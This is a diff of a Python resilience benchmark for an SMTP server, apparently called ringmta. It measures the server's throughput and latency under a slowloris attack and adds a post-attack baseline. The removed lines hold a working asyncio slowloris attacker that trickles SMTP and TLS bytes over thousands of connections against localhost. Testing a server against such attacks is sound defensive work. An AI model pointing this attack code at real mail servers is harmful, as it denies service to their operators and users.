@@ -14,20 +14,23 @@ delivery on, its default limits), then:
    command line, a DATA body (after EHLO/MAIL/RCPT/DATA) and a TLS
    ClientHello on the implicit-TLS port, one byte per --interval seconds per
    connection; a connection the server closes is opened again;
-3. the same loadgen run while the attack holds its connections.
+3. the same loadgen run while the attack holds its connections;
+4. the baseline again once the attacker has stopped.
+
+The attacker is `ringmta-slowloris` (loadgen/src/slowloris.rs): one thread
+on epoll, so that it takes as little as it can of the 2 cores it shares with
+the server (a real attack runs elsewhere).
 
 It prints and writes tuning/results/<date>/slowloris.md: the normal client's
-msg/s and end-of-data p99 with and without the attack, their ratio (target:
-within 10 %), ringmta's RSS (VmRSS now, VmHWM peak) and what the attack saw
+msg/s and end-of-data p99 with and without the attack, their ratio against
+the mean of the two runs without it (target: within 10 %), ringmta's RSS (VmRSS now, VmHWM peak) and what the attack saw
 (connections open, closed by the server, refused).
 """
 
 import argparse
-import asyncio
 import datetime
 import json
 import os
-import random
 import resource
 import signal
 import subprocess
@@ -38,113 +41,7 @@ import time
 ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
 RINGMTA = os.path.join(ROOT, "target", "release", "ringmta")
 LOADGEN = os.path.join(ROOT, "target", "release", "ringmta-loadgen")
-
-
-# ---------------------------------------------------------------- attacker --
-
-class Stats:
-    def __init__(self):
-        self.open = 0
-        self.opened = 0
-        self.closed_by_server = 0
-        self.connect_failed = 0
-        self.refused_421 = 0
-        self.bytes_sent = 0
-
-
-async def trickle(kind, src, port, interval, stats, stop):
-    """One attacking connection, reopened whenever the server closes it."""
-    first = True
-    while not stop.is_set():
-        if not first:
-            await asyncio.sleep(random.uniform(0.5, 2.0))
-        first = False
-        try:
-            reader, writer = await asyncio.wait_for(
-                asyncio.open_connection("127.0.0.1", port, local_addr=(src, 0)), 10)
-        except (OSError, asyncio.TimeoutError):
-            stats.connect_failed += 1
-            continue
-        stats.open += 1
-        stats.opened += 1
-        try:
-            if kind == "tls":
-                # A TLS 1.2 ClientHello record header, then never enough of it.
-                payload = bytes([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc]) + b"\x03\x03" + os.urandom(500)
-            else:
-                banner = await asyncio.wait_for(reader.readline(), 30)
-                if banner.startswith(b"421"):
-                    stats.refused_421 += 1
-                    raise ConnectionError("refused")
-                if kind == "data":
-                    writer.write(b"EHLO slow.test\r\nMAIL FROM:<a@slow.test>\r\n"
-                                 b"RCPT TO:<victim@localhost>\r\nDATA\r\n")
-                    await writer.drain()
-                    # EHLO reply lines, 250, 250, 354.
-                    while True:
-                        line = await asyncio.wait_for(reader.readline(), 30)
-                        if not line or line.startswith(b"354") or line[:1] in (b"4", b"5"):
-                            break
-                    if not line.startswith(b"354"):
-                        raise ConnectionError("no 354")
-                    payload = b"Subject: slow\r\n\r\n" + b"x" * 100000
-                else:
-                    payload = b"EHLO " + b"s" * 400 + b"\r\n"
-            for i in range(len(payload)):
-                if stop.is_set():
-                    break
-                writer.write(payload[i:i + 1])
-                await writer.drain()
-                stats.bytes_sent += 1
-                # Sleep, but notice at once when the server hangs up.
-                try:
-                    data = await asyncio.wait_for(reader.read(4096),
-                                                  interval * random.uniform(0.8, 1.2))
-                    if not data:
-                        break
-                    if data.startswith(b"421"):
-                        stats.refused_421 += 1
-                except asyncio.TimeoutError:
-                    pass
-        except (OSError, ConnectionError, asyncio.TimeoutError, asyncio.IncompleteReadError):
-            pass
-        finally:
-            stats.open -= 1
-            if not stop.is_set():
-                stats.closed_by_server += 1
-            writer.close()
-
-
-async def attack(args):
-    stats = Stats()
-    stop = asyncio.Event()
-    loop = asyncio.get_running_loop()
-    loop.add_signal_handler(signal.SIGTERM, stop.set)
-    kinds = ["cmd", "data", "tls"]
-    tasks = []
-    for i in range(args.conns):
-        kind = kinds[i % 3]
-        src = f"127.1.{(i // 50) // 250}.{(i // 50) % 250 + 1}"  # 50 per address
-        port = args.smtps_port if kind == "tls" else args.smtp_port
-        tasks.append(asyncio.create_task(trickle(kind, src, port, args.interval, stats, stop)))
-        if i % 500 == 499:
-            await asyncio.sleep(0.25)
-    # Ready once the opening burst is over.
-    for _ in range(120):
-        if stats.opened + stats.connect_failed >= args.conns:
-            break
-        await asyncio.sleep(0.5)
-    print(json.dumps({"ready": True, "open": stats.open}), flush=True)
-    while not stop.is_set():
-        try:
-            await asyncio.wait_for(stop.wait(), 1)
-        except asyncio.TimeoutError:
-            pass
-    snapshot = dict(vars(stats))
-    for t in tasks:
-        t.cancel()
-    await asyncio.gather(*tasks, return_exceptions=True)
-    print(json.dumps(snapshot), flush=True)
+ATTACKER = os.path.join(ROOT, "target", "release", "ringmta-slowloris")
 
 
 # ------------------------------------------------------------ orchestrator --
@@ -205,16 +102,10 @@ def main():
     ap.add_argument("--conns", type=int, default=10000)
     ap.add_argument("--seconds", type=int, default=20)
     ap.add_argument("--interval", type=float, default=5.0)
-    ap.add_argument("--attacker", action="store_true", help=argparse.SUPPRESS)
-    ap.add_argument("--smtp-port", type=int, help=argparse.SUPPRESS)
-    ap.add_argument("--smtps-port", type=int, help=argparse.SUPPRESS)
     ap.add_argument("flags", nargs="*", help="extra ringmta flags (after --)")
     args = ap.parse_args()
     soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
-    if args.attacker:
-        asyncio.run(attack(args))
-        return
     if hard < args.conns + 1000:
         sys.exit(f"RLIMIT_NOFILE hard limit {hard} is too low for {args.conns} connections")
 
@@ -227,8 +118,8 @@ def main():
         base = loadgen(smtp, args.seconds, tmp, "baseline")
         cpu_base = cpu_s(proc.pid) - c0
         rss_base = rss_kib(proc.pid)
-        att = subprocess.Popen([sys.executable, os.path.abspath(__file__), "--attacker",
-                                "--conns", str(args.conns), "--interval", str(args.interval),
+        att = subprocess.Popen([ATTACKER, "--conns", str(args.conns),
+                                "--interval", str(args.interval),
                                 "--smtp-port", str(smtp), "--smtps-port", str(smtps)],
                                stdout=subprocess.PIPE, text=True)
         ready = json.loads(att.stdout.readline())
@@ -240,6 +131,13 @@ def main():
         att.send_signal(signal.SIGTERM)
         seen = json.loads(att.stdout.readline())
         att.wait(timeout=60)
+        # Baseline again, the attack's connections gone: the mean of the two
+        # is what the attack run is compared with (the spool and Maildir
+        # grow from run to run).
+        time.sleep(2)
+        c0 = cpu_s(proc.pid)
+        after = loadgen(smtp, args.seconds, tmp, "after")
+        cpu_after = cpu_s(proc.pid) - c0
     finally:
         proc.send_signal(signal.SIGTERM)
         try:
@@ -247,8 +145,10 @@ def main():
         except subprocess.TimeoutExpired:
             proc.kill()
 
-    ratio_rate = under["msgs_per_s"] / base["msgs_per_s"] if base["msgs_per_s"] else 0
-    ratio_p99 = under["p99_ms"] / base["p99_ms"] if base["p99_ms"] else 0
+    rate0 = (base["msgs_per_s"] + after["msgs_per_s"]) / 2
+    p99_0 = (base["p99_ms"] + after["p99_ms"]) / 2
+    ratio_rate = under["msgs_per_s"] / rate0 if rate0 else 0
+    ratio_p99 = under["p99_ms"] / p99_0 if p99_0 else 0
     now = datetime.datetime.now()
     lines = [
         f"# Slowloris {now.isoformat(timespec='seconds')}", "",
@@ -259,18 +159,20 @@ def main():
         f"4 KiB, {args.seconds} s per run. Attack: {args.conns} connections from "
         f"{(args.conns + 49) // 50} addresses (127.1.x.y, 50 each), a third each trickling a "
         f"command, a DATA body and a TLS ClientHello, one byte every ~{args.interval:g} s per "
-        "connection, reopened when closed. The attacker runs on the same 2 cores.", "",
+        "connection, reopened when closed (`ringmta-slowloris`, one thread, epoll). The attacker "
+        "runs on the same 2 cores.", "",
         "| run | msg/s | end-of-data p99 ms | accepted | errors |",
         "|---|---|---|---|---|",
         f"| without attack | {base['msgs_per_s']:.0f} | {base['p99_ms']:.2f} | {base['accepted']} | {base['errors']} |",
         f"| under attack | {under['msgs_per_s']:.0f} | {under['p99_ms']:.2f} | {under['accepted']} | {under['errors']} |",
-        f"| ratio | {ratio_rate:.2f} | {ratio_p99:.2f} | | |", "",
+        f"| without attack, after it | {after['msgs_per_s']:.0f} | {after['p99_ms']:.2f} | {after['accepted']} | {after['errors']} |",
+        f"| ratio (attack / mean without) | {ratio_rate:.2f} | {ratio_p99:.2f} | | |", "",
         f"ringmta RSS: {rss_base['VmRSS'] / 1024:.0f} MiB before the attack, "
         f"{rss_attack_start['VmRSS'] / 1024:.0f} MiB with the attack's connections open, "
         f"{rss_attack['VmRSS'] / 1024:.0f} MiB after the second run; peak (VmHWM) "
         f"{rss_attack['VmHWM'] / 1024:.0f} MiB.", "",
         f"CPU seconds during each {args.seconds} s run: ringmta {cpu_base:.1f} without the attack, "
-        f"{cpu_under:.1f} under it; the attacker process {cpu_att:.1f} (on the same 2 cores: "
+        f"{cpu_under:.1f} under it, {cpu_after:.1f} after it; the attacker process {cpu_att:.1f} (on the same 2 cores: "
         "what it takes is not available to ringmta or the load generator).", "",
         f"Attack: {ready['open']} connections open when the second run started; over the run "
         f"{seen['opened']} opened, {seen['closed_by_server']} closed by the server, "
